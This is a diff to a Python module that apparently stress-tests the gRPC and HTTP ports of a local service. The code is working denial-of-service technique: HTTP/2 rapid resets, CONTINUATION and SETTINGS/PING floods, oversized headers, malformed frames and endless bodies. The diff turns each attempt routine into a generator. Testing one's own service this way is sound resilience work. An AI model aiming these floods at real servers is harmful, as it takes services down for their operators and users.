@@ -69,12 +69,15 @@ def drain(connection: socket.socket) -> None:
     connection.settimeout(1.0)
 
 
-def again(attempt: Callable[[], int], until: float) -> int:
+def again(attempt: Callable[[], Iterator[int]], until: float) -> int:
     """Attempts until then; being thrown out is no failure of the attack. What was sent, in the attack's unit."""
     sent = 0
     while time.monotonic() < until:
         try:
-            sent += attempt()
+            for number in attempt():
+                sent += number
+                if time.monotonic() > until:
+                    break
         except OSError:
             time.sleep(0.002)
     return sent
@@ -135,8 +138,7 @@ def rapid_resets(grpc: int, http: int, until: float) -> int:
     """Calls that are reset at once."""
     head = call("GetScores")
 
-    def attempt() -> int:
-        sent = 0
+    def attempt() -> Iterator[int]:
         with connected(grpc, hello()) as connection:
             for first in range(1, 1 << 20, 200):
                 streams = range(first, first + 200, 2)
@@ -146,11 +148,8 @@ def rapid_resets(grpc: int, http: int, until: float) -> int:
                         for stream in streams
                     )
                 )
+                yield len(streams)
                 drain(connection)
-                sent += len(streams)
-                if time.monotonic() > until:
-                    break
-        return sent
 
     return again(attempt, until)
 
@@ -158,18 +157,19 @@ def rapid_resets(grpc: int, http: int, until: float) -> int:
 def huge_heads(grpc: int, http: int, until: float) -> int:
     """A mebibyte of headers on both ports."""
 
-    def attempt() -> int:
+    def attempt() -> Iterator[int]:
         block = call("GetScores", **{f"x-{n}": "a" * 4000 for n in range(256)})
         with connected(grpc, hello()) as connection:
             parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
             connection.sendall(frame(HEADERS, 0, 1, parts[0]))
             for number, part in enumerate(parts[1:], 2):
                 connection.sendall(frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, 1, part))
+            yield 1
             drain(connection)
         with connected(http, b"GET / HTTP/1.1\r\n") as connection:
+            yield 1
             for number in range(256):
                 connection.sendall(f"X-{number}: {'a' * 4000}\r\n".encode())
-        return 2
 
     return again(attempt, until)
 
@@ -178,13 +178,11 @@ def continuations(grpc: int, http: int, until: float) -> int:
     """Headers that never end."""
     part = frame(CONTINUATION, 0, 1, packed({"x": "y"})) * 200
 
-    def attempt() -> int:
-        sent = 0
+    def attempt() -> Iterator[int]:
         with connected(grpc, hello() + frame(HEADERS, 0, 1, call("GetScores"))) as connection:
-            while time.monotonic() < until:
+            while True:
                 connection.sendall(part)
-                sent += 200
-        return sent
+                yield 200
 
     return again(attempt, until)
 
@@ -193,13 +191,11 @@ def settings_and_pings(grpc: int, http: int, until: float) -> int:
     """Frames that have to be answered, by a peer that does not read the answers."""
     part = (frame(SETTINGS, 0, 0) + frame(PING, 0, 0, bytes(8))) * 100
 
-    def attempt() -> int:
-        sent = 0
+    def attempt() -> Iterator[int]:
         with connected(grpc, hello()) as connection:
-            while time.monotonic() < until:
+            while True:
                 connection.sendall(part)
-                sent += 200
-        return sent
+                yield 200
 
     return again(attempt, until)
 
@@ -229,14 +225,12 @@ def pipelined(grpc: int, http: int, until: float) -> int:
     """Requests after requests on one connection, whose answers are read late."""
     part = b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100
 
-    def attempt() -> int:
-        sent = 0
+    def attempt() -> Iterator[int]:
         with connected(http) as connection:
-            while time.monotonic() < until:
+            while True:
                 connection.sendall(part)
-                sent += 100
+                yield 100
                 drain(connection)
-        return sent
 
     return again(attempt, until)
 
@@ -259,15 +253,15 @@ def bad_frames(grpc: int, http: int, until: float) -> int:
         frame(200, 255, 1 << 30, b"unknown"),
     ]
 
-    def attempt() -> int:
+    def attempt() -> Iterator[int]:
         first = choose.choice([hello(), b"", PREFACE])
         bad = choose.choice([*frames, choose.randbytes(choose.randrange(1, 4096))])
         for port in (grpc, http):
             with connected(port, first + bad) as connection:
+                yield 1
                 with contextlib.suppress(OSError):
                     connection.shutdown(socket.SHUT_WR)
                 drain(connection)
-        return 2
 
     return again(attempt, until)
 
@@ -276,20 +270,18 @@ def endless_bodies(grpc: int, http: int, until: float) -> int:
     """Messages that say that they have 4 GiB, and bodies in parts without end. In MiB."""
     part = frame(DATA, 0, 1, bytes(16_384))
 
-    def attempt() -> int:
-        sent = 0
+    def attempt() -> Iterator[int]:
         with connected(grpc, hello() + frame(HEADERS, END_HEADERS, 1, call("Ingest"))) as connection:
             connection.sendall(frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff"))
-            for _ in range(256):
-                connection.sendall(part)
-            sent += 4
-            drain(connection)
+            with contextlib.suppress(OSError):
+                for _ in range(4):
+                    connection.sendall(part * 64)
+                    yield 1
         head = b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
         with connected(http, head) as connection:
-            for _ in range(64):
-                connection.sendall(b"10000\r\n" + bytes(1 << 16) + b"\r\n")
-            sent += 4
-        return sent
+            for _ in range(4):
+                connection.sendall((b"10000\r\n" + bytes(1 << 16) + b"\r\n") * 16)
+                yield 1
 
     return again(attempt, until)
 
